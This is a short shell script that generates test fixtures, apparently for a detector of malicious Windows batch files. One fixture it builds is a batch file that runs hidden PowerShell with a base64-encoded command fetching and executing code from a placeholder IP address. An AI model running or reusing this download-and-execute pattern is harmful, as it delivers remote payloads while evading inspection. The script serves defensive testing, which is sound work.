#!/bin/sh
# The fixtures here are hand-written scripts (no tool produces them); only
# fail_enc.bat needs a generator, for its UTF-16LE base64 command:
python3 - <<'PY'
import base64
inner = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/b')"
enc = base64.b64encode(inner.encode('utf-16-le')).decode()
open('fail_enc.bat', 'w').write('@echo off\r\npowershell.exe -NoP -W Hidden -enc %s\r\n' % enc)
PY
# fail_lolbins_crlf.bat is fail_lolbins.bat with CRLF line ends:
sed 's/$/\r/' fail_lolbins.bat > fail_lolbins_crlf.bat
